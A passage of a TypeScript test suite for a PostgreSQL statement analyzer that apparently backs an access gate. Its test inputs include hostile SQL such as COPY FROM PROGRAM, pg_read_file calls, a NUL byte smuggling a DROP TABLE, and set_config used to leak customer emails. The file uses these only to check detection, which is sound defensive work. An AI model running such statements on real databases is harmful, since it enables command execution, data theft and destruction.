    const app = one("SELECT set_config('application_name', 'x', true)");
    expect(app.functions).toContain("pg_catalog.set_config(application_name)");
    expect(app.functions).not.toContain("pg_catalog.set_config(search_path)");
  });

  test("plain EXPLAIN carries its statement's classes but does not run set_config; EXPLAIN ANALYZE does", () => {
    const plain = one("EXPLAIN SELECT set_config('search_path', 'x', false)");
    expect(plain.classes).toEqual(["explain", "read", "set"]);
    expect(plain.sets).toBeUndefined();
    expect(plain.functions).toContain("pg_catalog.set_config(search_path)");
    const run = one("EXPLAIN ANALYZE SELECT set_config('search_path', 'x', false)");
    expect(run.classes).toEqual(["explain", "read", "set"]);
    expect(run.sets).toEqual([{ name: "search_path", value: "x", local: false }]);
  });

  test("COPY facts", () => {
    expect(one("DEALLOCATE PREPARE Stmt1").deallocates).toBe("stmt1");
    expect(one('DEALLOCATE "Stmt 1"').deallocates).toBe("Stmt 1");
    expect(one("DEALLOCATE ALL").deallocates).toBeNull();
    expect(one("DEALLOCATE PREPARE ALL").deallocates).toBeNull();
    expect(one("SELECT 1").deallocates).toBeUndefined();
    expect(one("COPY (SELECT 1) TO STDOUT").copy).toEqual({ direction: "to", program: false, stdio: true });
    expect(one("COPY t FROM PROGRAM 'x'").copy).toEqual({ direction: "from", program: true, stdio: false });
    expect(one("COPY t FROM '/tmp/data.csv'").copy).toEqual({ direction: "from", program: false, stdio: false });
    expect(one("COPY t TO PROGRAM 'gzip > /tmp/x'").classes).toEqual(["copy.program", "copy.to", "read"]);
  });

  test("PREPARE carries the prepared statement's own analysis; EXECUTE names it", () => {
    const sql = "PREPARE p(int) AS DELETE FROM sales.orders WHERE id = $1";
    const p = one(sql);
    // Decided by what it prepares: the inner statement's classes count too.
    expect(p.classes).toEqual(["delete", "prepare"]);
    expect(p.relations).toEqual(["sales.orders"]);
    expect(p.prepares).toEqual({
      name: "p",
      inner: {
        classes: ["delete"],
        relations: ["sales.orders"],
        functions: [marker("op", "pg_catalog.="), marker("op", "public.="), marker("type", "pg_catalog.int4")],
        text: sql,
        node: "DeleteStmt",
      },
    });
    const e = one("EXECUTE p(1)");
    expect(e.classes).toEqual(["execute"]);
    expect(e.executes).toBe("p");
    const x = one("EXPLAIN ANALYZE EXECUTE p(1)");
    expect(x.classes).toEqual(["execute", "explain"]);
    expect(x.executes).toBe("p");
    expect(one("EXPLAIN EXECUTE p(1)").executes).toBe("p");
    expect(one("PREPARE q AS SELECT * FROM sales.orders").classes).toEqual(["prepare", "read"]);
  });

  test("FETCH and MOVE name the cursor they read; CLOSE the one it closes", () => {
    expect(one("FETCH FORWARD 100 FROM c").fetches).toBe("c");
    expect(one('FETCH ALL IN "My Cursor"').fetches).toBe("My Cursor");
    expect(one("FETCH NEXT FROM Cur").fetches).toBe("cur");
    expect(one("MOVE ABSOLUTE 5 IN c")).toMatchObject({ classes: ["move"], fetches: "c" });
    expect(one("CLOSE c").closes).toBe("c");
    expect(one("CLOSE ALL").closes).toBeNull();
    expect(one("SELECT 1").fetches).toBeUndefined();
    expect(one("DECLARE c CURSOR FOR SELECT 1").fetches).toBeUndefined();
  });

  test("LISTEN / NOTIFY", () => {
    const l = one("LISTEN orders_changed");
    expect(l.classes).toEqual(["listen"]);
    expect(l.listen).toBe("orders_changed");
    const n = one("NOTIFY orders_changed, 'payload'");
    expect(n.classes).toEqual(["notify"]);
    expect(n.notify).toBe("orders_changed");
  });
});

describe("analyze: functions named, called, defined", () => {
  test("DDL that names a function without calling it reports it in functionObjects", () => {
    expect(one("DROP FUNCTION public.all_salaries()").functionObjects).toEqual(["public.all_salaries"]);
    expect(one("ALTER FUNCTION f(int) OWNER TO bob").functionObjects).toEqual(fn("f"));
    expect(one("GRANT EXECUTE ON FUNCTION public.f() TO bob").functionObjects).toEqual(["public.f"]);
    expect(one("COMMENT ON FUNCTION public.f() IS 'x'").functionObjects).toEqual(["public.f"]);
    expect(one("CREATE FUNCTION public.f() RETURNS int LANGUAGE sql AS 'SELECT 1'").functionObjects).toEqual(["public.f"]);
  });

  test("calls are not function objects, wherever they are", () => {
    expect(one("SELECT public.f()").functionObjects).toBeUndefined();
    expect(one("CALL public.p()").functionObjects).toBeUndefined();
    expect(one("CREATE TABLE t AS SELECT public.f()").functionObjects).toBeUndefined();
    // Named and called in one statement: it is called.
    expect(one("SELECT public.f() FROM sales.x WHERE public.g() > 0").functionObjects).toBeUndefined();
  });

  test("a call inside a view or function body runs later: it names the function", () => {
    const v = one("CREATE VIEW sales.v AS SELECT public.all_salaries()");
    expect(v.functions).toEqual(["public.all_salaries"]);
    expect(v.functionObjects).toEqual(["public.all_salaries"]);
    const b = one("CREATE FUNCTION public.f() RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT pg_catalog.pg_read_file('x'); END");
    expect(b.functions).toEqual(["pg_catalog.pg_read_file", "public.f"]);
  });

  test("defines: what a statement creates or renames into, where it may land", () => {
    expect(one("CREATE FUNCTION rf() RETURNS int LANGUAGE sql AS 'SELECT 1'").defines).toEqual({ functions: fn("rf"), relations: [] });
    expect(one("CREATE OR REPLACE PROCEDURE s.p() LANGUAGE sql AS 'SELECT 1'").defines).toEqual({ functions: ["s.p"], relations: [] });
    expect(one("CREATE VIEW v AS SELECT * FROM hr.salaries").defines).toEqual({ functions: [], relations: ["public.v"] });
    expect(one("CREATE MATERIALIZED VIEW sales.m AS SELECT 1").defines).toEqual({ functions: [], relations: ["sales.m"] });
    expect(one("CREATE RULE r AS ON SELECT TO sales.t DO INSTEAD SELECT * FROM hr.salaries").defines?.relations).toEqual(["sales.t"]);
    expect(one("ALTER FUNCTION public.f() RENAME TO g").defines).toEqual({ functions: ["public.g"], relations: [] });
    expect(one("ALTER FUNCTION public.f() SET SCHEMA sales").defines).toEqual({ functions: ["sales.f"], relations: [] });
    expect(one("ALTER VIEW public.hr_view SET SCHEMA sales").defines).toEqual({ functions: [], relations: ["sales.hr_view"] });
    expect(one("ALTER VIEW public.hr_view RENAME TO x").defines).toEqual({ functions: [], relations: ["public.x"] });
    expect(one("ALTER VIEW public.hr_view RENAME COLUMN a TO b").defines).toBeUndefined();
    expect(one("SELECT 1").defines).toBeUndefined();
  });
});

describe("analyze: several statements", () => {
  test("each statement gets its own classes and text", () => {
    const a = parser.analyze("SELECT 1; DELETE FROM sales.orders; DROP TABLE x", PUBLIC);
    if (!a.ok) throw new Error(a.error);
    expect(a.statements.map((s) => [s.text, s.classes])).toEqual([
      ["SELECT 1", ["read"]],
      ["DELETE FROM sales.orders", ["delete"]],
      ["DROP TABLE x", ["ddl.drop.table"]],
    ]);
  });

  test("semicolons inside strings, identifiers and dollar quotes do not split", () => {
    const a = parser.analyze(`SELECT 'a;b'; SELECT "c;d" FROM t; SELECT $x$; DROP TABLE y; $x$`, PUBLIC);
    if (!a.ok) throw new Error(a.error);
    expect(a.statements.map((s) => s.text)).toEqual([`SELECT 'a;b'`, `SELECT "c;d" FROM t`, `SELECT $x$; DROP TABLE y; $x$`]);
    expect(a.statements.flatMap((s) => s.classes)).toEqual(["read", "read", "read"]);
  });

  test("text slices are right after non-ASCII characters", () => {
    const a = parser.analyze("SELECT 'é'; /* ö */ SELECT 2 ;", PUBLIC);
    if (!a.ok) throw new Error(a.error);
    expect(a.statements.map((s) => s.text)).toEqual(["SELECT 'é'", "SELECT 2 "]);
  });

  test("empty and comment-only text has no statements", () => {
    for (const sql of ["", "   ", "-- only a comment", "/* x */", ";;"]) {
      expect(parser.analyze(sql, PUBLIC)).toEqual({ ok: true, statements: [] });
    }
  });
});

describe("analyze: failures deny", () => {
  test("parse errors carry the parser's message and 1-based position", () => {
    expect(parser.analyze("SELEC 1", PUBLIC)).toEqual({ ok: false, error: 'syntax error at or near "SELEC"', position: 1 });
    const a = parser.analyze("SELECT 1; SELECT * FROM", PUBLIC);
    expect(a.ok).toBe(false);
    if (!a.ok) expect(a.position).toBe(24);
  });

  test("one bad statement fails the whole text", () => {
    expect(parser.analyze("SELECT 1; DROP TABLE", PUBLIC).ok).toBe(false);
    expect(parser.analyze("SELECT 'unterminated", PUBLIC).ok).toBe(false);
  });

  test("a NUL would hide the rest of the text from the parser", () => {
    const a = parser.analyze("SELECT 1\0; DROP TABLE x", PUBLIC);
    expect(a).toEqual({ ok: false, error: "query text contains a NUL character" });
  });

  test("lone surrogates are refused", () => {
    expect(parser.analyze("SELECT '\ud800'", PUBLIC).ok).toBe(false);
  });

  test("a statement too deep for the parser's stack is denied, and the parser keeps working", async () => {
    const deep = `SELECT 1${" + 1".repeat(100_000)}`;
    const a = parser.analyze(deep, PUBLIC);
    expect(a.ok).toBe(false);
    // The trapped instance was replaced by its spare: the next query parses at once.
    expect(parser.analyze("SELECT * FROM t", PUBLIC).ok).toBe(true);
    // Use up the spare too, then wait for the background replacement.
    expect(parser.analyze(deep, PUBLIC).ok).toBe(false);
    expect(parser.analyze(deep, PUBLIC).ok).toBe(false);
    await waitFor("the background replacement of the parser instance", () => parser.analyze("SELECT 1", PUBLIC).ok, { intervalMs: 25 });
  });
});

describe("analyzeStatement", () => {
  test("a node type it does not know is other.<Node>, and still walked for relations", () => {
    const a = analyzeStatement({ FutureStmt: { target: { relname: "x", inh: true }, inner: [{ RangeVar: { schemaname: "hr", relname: "y" } }] } }, "x", PUBLIC);
    expect(a.info.classes).toEqual(["other.FutureStmt"]);
    expect(a.info.relations).toEqual(["hr.y", "public.x"]);
  });

  test("constant dependence is recorded exactly when a literal's value was read", () => {
    const dep = (sql: string): boolean => {
      const p = parser.parse(sql);
      if (!p.ok) throw new Error(p.analysis.error);
      return parser.analyzeParsed(p, PUBLIC).constantFree === false;
    };
    expect(dep("SELECT abalance FROM pgbench_accounts WHERE aid = 48213")).toBe(false);
    expect(dep("UPDATE t SET a = 'x' WHERE b = 2 RETURNING c")).toBe(false);
    expect(dep("SELECT set_config('a', 'b', false)")).toBe(true);
    expect(dep("SELECT nextval('s')")).toBe(true);
    expect(dep("SELECT 'x'::regclass")).toBe(true);
    expect(dep("SELECT 1::regclass")).toBe(true);
    expect(dep("SET search_path TO hr")).toBe(true);
    expect(dep("COPY t FROM PROGRAM 'x'")).toBe(true); // utility statements never count as constant-free
    expect(dep("SELECT 1; SELECT 2")).toBe(false);
  });
});

describe("analyze: what makes the server read SQL differently (client_encoding, standard_conforming_strings)", () => {
  const flagged = (sql: string): string[] => one(sql).functions.filter((f) => /set_config\((client_encoding|standard_conforming_strings)\)/.test(f));
  test("SET, SET LOCAL, RESET and SET … DEFAULT of either are reported, unless to UTF8 / on", () => {
    expect(flagged("SET standard_conforming_strings = off")).toEqual(["pg_catalog.set_config(standard_conforming_strings)"]);
    expect(flagged("SET LOCAL standard_conforming_strings TO off")).toEqual(["pg_catalog.set_config(standard_conforming_strings)"]);
    expect(flagged("SET standard_conforming_strings = 0")).toHaveLength(1);
    expect(flagged("SET standard_conforming_strings = on")).toEqual([]);
    expect(flagged("SET standard_conforming_strings = 'true'")).toEqual([]);
    expect(flagged("SET client_encoding = 'SJIS'")).toEqual(["pg_catalog.set_config(client_encoding)"]);
    expect(flagged("SET NAMES 'GBK'")).toEqual(["pg_catalog.set_config(client_encoding)"]);
    expect(flagged("SET client_encoding TO DEFAULT")).toHaveLength(1);
    expect(flagged("RESET client_encoding")).toHaveLength(1);
    expect(flagged("RESET standard_conforming_strings")).toHaveLength(1);
    for (const ok of ["'UTF8'", "'utf-8'", "'Unicode'", "utf8"]) expect(flagged(`SET client_encoding = ${ok}`)).toEqual([]);
    expect(flagged("RESET ALL")).toEqual([]);
    expect(flagged("SET escape_string_warning = off")).toEqual([]);
  });
  test("set_config of either, or of a name that is not a literal, is reported", () => {
    expect(flagged("SELECT set_config('standard_conforming_strings', 'off', false)")).toHaveLength(1);
    expect(flagged("SELECT set_config('Client_Encoding', 'UTF8', false)")).toHaveLength(1);
    expect(flagged("SELECT set_config(s, 'off', false) FROM t")).toHaveLength(2);
  });
  test("ALTER ROLE / DATABASE / SYSTEM … SET of either is reported; RESET is not", () => {
    expect(flagged("ALTER ROLE bob SET client_encoding = 'SJIS'")).toHaveLength(1);
    expect(flagged("ALTER ROLE bob IN DATABASE d SET standard_conforming_strings = off")).toHaveLength(1);
    expect(flagged("ALTER DATABASE d SET client_encoding TO 'BIG5'")).toHaveLength(1);
    expect(flagged("ALTER SYSTEM SET standard_conforming_strings = off")).toHaveLength(1);
    expect(flagged("ALTER ROLE bob RESET client_encoding")).toEqual([]);
    expect(flagged("ALTER ROLE bob SET client_encoding = 'UTF8'")).toEqual([]);
    expect(one("ALTER ROLE bob SET client_encoding = 'SJIS'").sets).toBeUndefined();
  });
});

describe("analyze: writes of pg_settings change settings", () => {
  test("UPDATE pg_settings counts as set_config of every sensitive setting, and the search_path becomes unknown", () => {
    for (const sql of ["UPDATE pg_catalog.pg_settings SET setting = 'hr, pg_catalog' WHERE name = 'search_path'", "UPDATE pg_settings SET setting = 'x' WHERE name = 'role'"]) {
      const info = one(sql);
      expect(info.classes).toContain("set");
      expect(info.functions).toEqual(expect.arrayContaining(["pg_catalog.set_config(search_path)", "pg_catalog.set_config(role)", "pg_catalog.set_config(client_encoding)"]));
      expect(info.sets).toEqual([{ name: "search_path", value: null, local: false, opaque: true }]);
      expect(splitMarkers(info.functions).markers.settingFromRows).toBe(false);
    }
    expect(splitMarkers(one("UPDATE pg_settings SET setting = (SELECT email FROM sales.customers LIMIT 1) WHERE name = 'application_name'").functions).markers.settingFromRows).toBe(true);
    expect(one("WITH u AS (UPDATE pg_settings SET setting = 'x' WHERE name = 'search_path' RETURNING 1) SELECT 1").sets?.[0]?.opaque).toBe(true);
    // Another schema's table of that name is not the view.
    expect(one("UPDATE sales.pg_settings SET setting = 'x'").sets).toBeUndefined();
  });
});

describe("analyze: markers for the gate", () => {
  const markers = (sql: string) => splitMarkers(one(sql).functions).markers;
  test("set_config with a value that is not a plain constant", () => {
    expect(markers("SELECT set_config('gh.leak', email, false) FROM sales.customers").settingFromRows).toBe(true);
    expect(markers("SELECT set_config('application_name', upper('x'), false)").settingFromRows).toBe(true);
    expect(markers("SELECT set_config('application_name', 'x', false)").settingFromRows).toBe(false);
    expect(markers("SELECT set_config('application_name', $1::text, true)").settingFromRows).toBe(false);
  });
  test("writes: the columns their values come from, not the WHERE or RETURNING", () => {
    expect(markers("UPDATE sales.customers SET name = email WHERE id = 1 RETURNING name").copies).toEqual(["email"]);
    expect(markers("UPDATE sales.orders o SET note = c.email FROM sales.customers c WHERE c.id = o.customer_id RETURNING o.note").copies).toEqual(["email"]);
    expect(markers("INSERT INTO sales.orders (note) SELECT upper(email) FROM sales.customers").copies).toEqual(["email"]);
    expect(markers("INSERT INTO t SELECT * FROM sales.customers").copies).toEqual(["*"]);
    expect(markers("UPDATE sales.orders SET note = c::text FROM sales.customers c").copies).toContain("*");
    expect(markers("UPDATE sales.orders SET note = customers::text FROM sales.customers").copies).toContain("*");
    expect(markers("WITH x AS (SELECT email AS e FROM sales.customers) UPDATE sales.orders SET note = (SELECT e FROM x LIMIT 1)").copies).toContain("email");
    expect(markers("CREATE TABLE sales.copy AS SELECT email FROM sales.customers").copies).toEqual(["email"]);
    expect(markers("SELECT email INTO sales.copy2 FROM sales.customers").copies).toEqual(["email"]);
    expect(markers("CREATE TABLE sales.copy3 AS EXECUTE p").copies).toEqual(["*"]);
    expect(markers("SELECT setval('sales.order_no', length(email)) FROM sales.customers").copies).toEqual(["email"]);
    // Column aliases rename a table's or a join's columns where no reference shows the old name.
    expect(markers("UPDATE sales.orders SET note = (SELECT x FROM sales.customers AS t(a, b, x) LIMIT 1)").copies).toContain("*");
    expect(markers("INSERT INTO sales.orders (note) SELECT x FROM (sales.customers c JOIN sales.orders o ON true) AS j(a, b, x)").copies).toContain("*");
    expect(markers("UPDATE sales.orders SET note = email(c) FROM sales.customers c").copies).toContain("*");
    expect(markers("MERGE INTO sales.orders t USING sales.customers s ON t.id = s.id WHEN MATCHED THEN UPDATE SET note = s.email").copies).toContain("email");
    expect(markers("UPDATE sales.customers SET name = 'x' WHERE email = 'a'").copies).toEqual([]);
    expect(markers("SELECT email FROM sales.customers").copies).toEqual([]);
    expect(markers("EXPLAIN UPDATE sales.customers SET name = email").copies).toEqual([]);
    const p = one("PREPARE p AS UPDATE sales.customers SET name = email");
    expect(splitMarkers(p.prepares!.inner.functions).markers.copies).toEqual(["email"]);
  });
  test("WHERE and RETURNING count when their values are carried on: a data-modifying CTE, setval", () => {
    const cte = "WITH u AS (UPDATE sales.customers SET name = name WHERE id = 1 RETURNING email AS e) UPDATE sales.orders SET note = (SELECT e FROM u) WHERE id = 10";
    expect(markers(cte).copies).toContain("email");
    expect(markers("WITH u AS (UPDATE sales.customers SET name = name RETURNING upper(email) AS e) UPDATE sales.orders o SET note = u.e FROM u").copies).toContain("email");
    expect(markers("WITH u AS (DELETE FROM sales.customers RETURNING *) INSERT INTO sales.orders (note) SELECT e FROM u AS x(e)").copies).toContain("*");
    expect(markers("UPDATE sales.orders SET note = note WHERE setval('sales.order_no', (SELECT length(email) FROM sales.customers LIMIT 1)) > 0").copies).toContain("email");
    expect(markers("UPDATE sales.orders SET note = note RETURNING setval('sales.order_no', (SELECT length(email) FROM sales.customers LIMIT 1))").copies).toContain("email");
    expect(markers("DELETE FROM sales.orders WHERE setval('sales.order_no', (SELECT length(email) FROM sales.customers LIMIT 1)) > 0").copies).toContain("email");
    // Without either, they still do not count.
    expect(markers("UPDATE sales.customers SET name = 'x' WHERE email = 'a' RETURNING email").copies).toEqual([]);
    expect(markers("WITH x AS (SELECT 1) UPDATE sales.customers SET name = 'x' WHERE email = 'a' RETURNING email").copies).toEqual([]);
  });
  test("operators, per schema they may resolve in", () => {
    expect(markers("SELECT 1 === 1").operators).toEqual(["pg_catalog.===", "public.==="]);
    expect(markers("SELECT OPERATOR(public.%%%) 1").operators).toEqual(["public.%%%"]);
    expect(markers("SELECT %%% 1").operators).toEqual(["pg_catalog.%%%", "public.%%%"]);
    expect(markers("SELECT 1 WHERE 2 = ANY (SELECT 3)").operators).toContain("public.=");
    expect(markers("SELECT 1 WHERE 2 BETWEEN 1 AND 3").operators).toContain("public.>=");
    expect(markers("SELECT abalance FROM pgbench_accounts WHERE aid = $1").operators).toEqual(["pg_catalog.=", "public.="]);
  });
  test("types converted to, prepared parameters' types included", () => {
    expect(markers("SELECT CAST(1 AS public.hr_note)").types).toEqual(["public.hr_note"]);
    expect(markers("SELECT (1::hr_note).note").types).toEqual(["pg_catalog.hr_note", "public.hr_note"]);
    expect(markers("SELECT 'x'::public.checked_code").types).toEqual(["public.checked_code"]);
    const p = one("PREPARE dp(public.checked_code) AS SELECT $1");
    expect(splitMarkers(p.prepares!.inner.functions).markers.types).toEqual(["public.checked_code"]);
    expect(splitMarkers(p.functions).markers.types).toEqual(["public.checked_code"]);
  });
  test("SQL/JSON syntax an older server reads as a call counts as that call", () => {
    expect(one("SELECT json_scalar(1)").functions).toEqual(expect.arrayContaining(fn("json_scalar")));
    expect(one("SELECT JSON_OBJECT('a': 1)").functions).toEqual(expect.arrayContaining(fn("json_object")));
  });
});

describe("analyze: sequences and inheritance", () => {
  test("a sequence named in a cast is still a relation; nextval and setval write it", () => {
    const a = one("SELECT nextval('hr.badge_seq'::regclass)");
    expect(a.relations).toEqual(["hr.badge_seq"]);
    expect(a.classes).toEqual(["read", "update"]);
    expect(one("SELECT setval('sales.order_no', 4242)").classes).toEqual(["read", "update"]);
    expect(one("SELECT currval('sales.order_no')").classes).toEqual(["read"]);
    expect(one("SELECT nextval('x'::text::regclass)").relations).toEqual(["public.x"]);
  });
  test("a sequence named by anything but a literal is a computed pseudo function", () => {
    expect(one("SELECT nextval(('hr.' || 'badge_seq')::regclass)").functions).toContain("pg_catalog.nextval(computed)");
    expect(one("SELECT setval(s::regclass, 1000) FROM (VALUES ('hr.badge_seq')) v(s)").functions).toContain("pg_catalog.setval(computed)");
    expect(one("SELECT currval(16390)").functions).toContain("pg_catalog.currval(computed)");
  });
  test("nextval in a column default does not make CREATE TABLE a write", () => {
    expect(one("CREATE TABLE t (id int DEFAULT nextval('s'))").classes).toEqual(["ddl.create.table"]);
  });
  test("ONLY is recorded; a relation also named without it is not", () => {
    expect(one("SELECT * FROM ONLY sales.events").only).toEqual(["sales.events"]);
    expect(one("UPDATE ONLY sales.events SET note = 'x'").only).toEqual(["sales.events"]);
    expect(one("SELECT * FROM sales.events").only).toBeUndefined();
    expect(one("SELECT * FROM ONLY sales.events a, sales.events b").only).toBeUndefined();
  });
});

describe("analyze: code that DDL attaches for later statements (defines)", () => {
  test("operators, casts, domains and types", () => {
    const op = one("CREATE OPERATOR public.=== (LEFTARG = int, RIGHTARG = int, FUNCTION = public.eq_and_wipe)");
    expect(op.defines?.operators).toEqual(["public.==="]);
    expect(op.functions).toContain("public.eq_and_wipe");
    expect(op.functionObjects).toContain("public.eq_and_wipe");
    const cast = one("CREATE CAST (int AS public.hr_note) WITH FUNCTION public.hr_note_of(int)");
    expect(cast.defines?.types).toEqual(["public.hr_note"]);
    expect(cast.functionObjects).toContain("public.hr_note_of");
    expect(one("CREATE DOMAIN cc AS text CHECK (VALUE <> '')").defines?.types).toEqual(["pg_catalog.cc", "public.cc"]);
    expect(one("ALTER DOMAIN public.cc ADD CONSTRAINT x CHECK (f(VALUE))").defines?.types).toEqual(["public.cc"]);
  });
  test("children of a parent, and code that a table's writes run", () => {
    expect(one("ALTER TABLE hr.orders INHERIT sales.events").defines?.relations).toEqual(["sales.events"]);
    expect(one("ALTER TABLE sales.ledger ATTACH PARTITION hr.staff FOR VALUES FROM (0) TO (1)").defines?.relations).toEqual(["sales.ledger"]);
    expect(one("CREATE TABLE hr.s2 PARTITION OF sales.ledger FOR VALUES FROM (1000) TO (2000)").defines?.relations).toEqual(["sales.ledger"]);
    expect(one("CREATE TRIGGER t BEFORE UPDATE ON sales.tickets FOR EACH ROW EXECUTE FUNCTION public.f()").defines?.writeHooks).toEqual(["sales.tickets"]);
    expect(one("ALTER TABLE sales.t ALTER COLUMN c SET DEFAULT f()").defines?.writeHooks).toEqual(["sales.t"]);
    expect(one("ALTER TABLE sales.t ENABLE TRIGGER x").defines?.writeHooks).toEqual(["sales.t"]);
    expect(one("ALTER TABLE sales.t RENAME COLUMN a TO b").defines).toBeUndefined();
  });
  test("a new table's writes run its code: a temporary one under pg_temp and its plain name", () => {
    expect(one("CREATE TEMP TABLE t (id int)").defines?.writeHooks).toEqual(["pg_temp.t", "public.t"]);
    expect(one("CREATE TABLE sales.t (id int)").defines?.writeHooks).toEqual(["sales.t"]);
  });
  test("code a table takes on from LIKE, INHERITS, PARTITION OF, OF and its column types is reported", () => {
    const code = (sql: string) => {
      const m = splitMarkers(one(sql).functions).markers;
      return { relations: m.codeRelations, types: m.codeTypes };
    };
    expect(code("CREATE TEMP TABLE t (LIKE sales.tickets INCLUDING DEFAULTS)")).toEqual({ relations: ["sales.tickets"], types: [] });
    expect(code("CREATE TEMP TABLE t () INHERITS (tickets)")).toEqual({ relations: ["public.tickets"], types: [] });
    expect(code("CREATE TABLE hr.s2 PARTITION OF sales.ledger FOR VALUES FROM (1) TO (2)")).toEqual({ relations: ["sales.ledger"], types: [] });
    expect(code("CREATE TABLE t OF public.box")).toEqual({ relations: [], types: ["public.box"] });
    expect(code("CREATE TEMP TABLE t (c checked_code[], d int)")).toEqual({ relations: [], types: ["pg_catalog.checked_code", "pg_catalog.int4", "public.checked_code"] });
    expect(code("ALTER TABLE t ADD COLUMN c public.d")).toEqual({ relations: [], types: ["public.d"] });
    expect(code("ALTER TABLE t ALTER COLUMN c TYPE public.d")).toEqual({ relations: [], types: ["public.d"] });
    expect(code("ALTER TABLE t INHERIT sales.p")).toEqual({ relations: ["sales.p"], types: [] });
    expect(code("ALTER TABLE t OF public.box")).toEqual({ relations: [], types: ["public.box"] });
    // A composite type's attributes and a cast run nothing on a table's writes.
    expect(code("CREATE TYPE public.b2 AS (c public.d)")).toEqual({ relations: [], types: [] });
  });
});
